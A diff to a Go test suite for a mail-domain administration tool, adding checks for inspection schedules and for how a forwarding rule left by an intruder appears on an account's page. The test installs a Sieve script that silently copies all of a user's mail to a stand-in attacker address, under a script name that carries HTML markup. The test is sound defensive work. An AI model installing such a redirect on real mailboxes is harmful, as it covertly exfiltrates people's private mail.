@@ -6,6 +6,8 @@ import (
 	"regexp"
 	"slices"
 	"strings"
+
+	"github.com/drawbridge/drawbridge/internal/mailclient"
 )
 
 var (
@@ -182,6 +184,25 @@ func (s *site) consoleWatch() {
 	d.shows("undone", d.post(at+"/inspection", "undo", undoField.FindStringSubmatch(closed.text)[1], "days", "0"), 200, "Reverted: 1")
 	s.want("ManageSieve is on again", s.sieve(office, carol, s.passwords[carol]), "OK ")
 	d.shows("nothing selected", d.post(at+"/inspection", "do", "plan"), 422, "/findings")
+	d.shows("a schedule", d.post(at+"/inspection", "do", "schedule", "every", "7d"), 200, "The domain is inspected every 7d")
+	d.shows("its form", d.get(at+"/inspection"), 200, `name="every" value="7d"`)
+	d.shows("too often", d.post(at+"/inspection", "do", "schedule", "every", "5s"), 422, "/inspection/every")
+
+	// What an intruder left behind is a page of its own, to which that of the login leads.
+	sieve, err := mailclient.Client{From: office}.Sieve(s.ctx, s.Sieve())
+	s.must(err)
+	defer func() { _ = sieve.Close() }()
+	r, err = sieve.Authenticate(carol, s.passwords[carol])
+	s.must(err)
+	s.want("ManageSieve", r, "OK")
+	r, err = sieve.Install("all <i>", "require \"copy\";\nredirect :copy \"mallory@example.com\";\n")
+	s.must(err)
+	s.want("a script", r, "OK")
+	forwards := "/accounts/" + carol + "/forwards"
+	d.shows("the login's page", d.get(login), 200, `href="`+forwards+`"`)
+	if page := d.shows("forwards", d.get(forwards), 200, "mallory@example.com"); strings.Contains(page.text, "all <i>") || !strings.Contains(page.text, "<strong>outside</strong>") {
+		s.t.Errorf("the list of forwards:\n%s", page.text)
+	}
 
 	// Guessers.
 	const guesser = "127.0.9.79"
